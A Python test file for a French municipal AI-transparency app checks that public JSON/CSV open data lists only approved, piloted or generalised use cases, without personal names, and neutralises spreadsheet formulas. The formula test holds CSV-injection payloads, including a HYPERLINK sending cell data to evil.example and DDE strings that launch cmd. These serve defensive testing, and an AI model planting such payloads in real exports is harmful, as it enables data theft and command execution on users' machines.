"""The public transparency page and its open data: only approved, piloted and generalised use
cases, nothing personal, no login."""

from __future__ import annotations

import csv
import io

from fastapi.testclient import TestClient
from sqlalchemy.orm import Session

from civia.accounts.models import Tenant
from civia.db.base import utcnow
from civia.db.engine import session_scope
from civia.governance import transparency, usecases
from civia.governance.models import GovernanceSettings, UseCase
from tests.conftest import Personas
from tests.governance.conftest import session, text_of

STATES = {
    "courrier": "approved",
    "traduction": "pilot",
    "reformulation": "generalised",
    "faq": "draft",
    "swot": "in_review",
    "correction": "suspended",
    "tri-demandes": "rejected",
}


def _french(text: str) -> str:
    """French spreadsheets' CSV: a byte order mark first (then `;` between cells)."""
    assert text.startswith("\ufeff")
    return text[1:]


def seed(db: Session, people: Personas) -> None:
    for assistant_id, status in STATES.items():
        db.add(
            UseCase(
                tenant_id=people.tenant.id,
                assistant_id=assistant_id,
                title=f"Usage {assistant_id}",
                purpose=f"Finalité {assistant_id}",
                human_oversight="Relecture par un agent.",
                overseers="Marie Secrète",
                risk_class="transparency" if assistant_id == "faq" else "minimal",
                hosting_class="fr_sovereign",
                status=status,
                decided_at=utcnow(),
            )
        )
    db.add(
        UseCase(
            tenant_id=people.other_tenant.id,
            assistant_id="courrier",
            title="Usage d'Autreville",
            status="approved",
        )
    )
    db.flush()


def test_only_public_cases_in_the_open_data(db: Session, people: Personas) -> None:
    seed(db, people)
    db.commit()
    tenant = db.get(Tenant, people.tenant.id)
    assert tenant is not None
    rows = transparency.rows(db, tenant)
    assert [r["titre"] for r in rows] == [
        "Usage courrier",
        "Usage reformulation",
        "Usage traduction",
    ]
    assert rows[0]["hebergement_du_modele"] == "Souverain français"
    assert rows[0]["classe_de_risque"] == usecases.RISK_LABELS[usecases.RiskClass.MINIMAL]
    data = transparency.as_json(db, tenant)
    assert data["collectivite"] == "Commune de Démoville" and len(data["cas_d_usage"]) == 3
    assert "Marie Secrète" not in str(data)
    assert data["contact_pour_contester"] == ""
    db.add(GovernanceSettings(tenant_id=tenant.id, contact="mediation-ia@demoville.example"))
    db.commit()
    assert transparency.contact(db, tenant) == "mediation-ia@demoville.example"
    parsed = list(
        csv.DictReader(io.StringIO(_french(transparency.as_csv(db, tenant))), delimiter=";")
    )
    assert [r["statut"] for r in parsed] == ["Approuvé", "Généralisé", "En pilote"]
    assert tuple(parsed[0]) == transparency.COLUMNS


def test_public_pages_without_login(client: TestClient, personas: Personas) -> None:
    with session_scope(session(client)) as db:
        seed(db, personas)
    page = text_of(client.get("/transparence/demoville"))
    assert "Usage de l'intelligence artificielle — Commune de Démoville" in page
    assert "Usage courrier" in page and "Usage faq" not in page and "Usage correction" not in page
    assert "Usage d'Autreville" not in page and "Marie Secrète" not in page
    assert "Contester une réponse rédigée avec l'aide de l'IA" in page and "L311-3-1" in page
    assert "Se déconnecter" not in page  # no session: the public layout
    resp = client.get("/transparence/demoville.json")
    assert resp.status_code == 200 and resp.headers["access-control-allow-origin"] == "*"
    assert resp.json()["cas_d_usage"][0]["titre"] == "Usage courrier"
    resp = client.get("/transparence/demoville.csv")
    assert resp.headers["content-type"].startswith("text/csv")
    assert resp.text.splitlines()[0] == "\ufeff" + ";".join(transparency.COLUMNS)
    assert len(resp.text.strip().splitlines()) == 4
    other = client.get("/transparence/autreville.json").json()
    assert [c["titre"] for c in other["cas_d_usage"]] == ["Usage d'Autreville"]
    for path in (
        "/transparence/nulle-part",
        "/transparence/nulle-part.json",
        "/transparence/nulle-part.csv",
    ):
        assert client.get(path).status_code == 404


def test_open_data_csv_neutralises_spreadsheet_formulas(db: Session, people: Personas) -> None:
    hostile = {
        "formule": '=HYPERLINK("http://evil.example/?"&A1;"Voir")',
        "plus": "+cmd|' /C calc'!A0",
        "moins": "-2+3+cmd|' /C calc'!A0",
        "arobase": "@SUM(1+1)*cmd|' /C calc'!A0",
        "tab": "\t=1+1",
    }
    # Cards of built-ins, so that each is in use and published.
    for assistant_id, title in zip(("courrier", "traduction", "swot", "faq", "correction"),
                                   hostile.values(), strict=True):  # fmt: skip
        db.add(UseCase(tenant_id=people.tenant.id, assistant_id=assistant_id, title=title,
                       purpose="-5", status="approved"))  # fmt: skip
    db.commit()
    tenant = db.get(Tenant, people.tenant.id)
    assert tenant is not None
    parsed = list(
        csv.DictReader(io.StringIO(_french(transparency.as_csv(db, tenant))), delimiter=";")
    )
    titles = {r["titre"] for r in parsed}
    assert titles == {"'" + t for t in hostile.values()}
    assert {r["finalite"] for r in parsed} == {"-5"}  # a plain number stays a number
    assert transparency.as_json(db, tenant)["cas_d_usage"][0]["titre"] in hostile.values()


def test_audit_csv_neutralises_formulas(db: Session, people: Personas) -> None:
    from civia.audit import journal as audit

    audit.record(db, tenant_id=people.tenant.id, actor=None, action="acts.deleted",
                 target="=1+1")  # fmt: skip
    db.commit()
    stmt = audit.query(db, tenant_id=people.tenant.id, filters=audit.Filters())
    rows = list(
        csv.DictReader(
            io.StringIO(_french("".join(audit.csv_rows(db, db.scalars(stmt))))), delimiter=";"
        )
    )
    assert rows[0]["cible"] == "'=1+1"
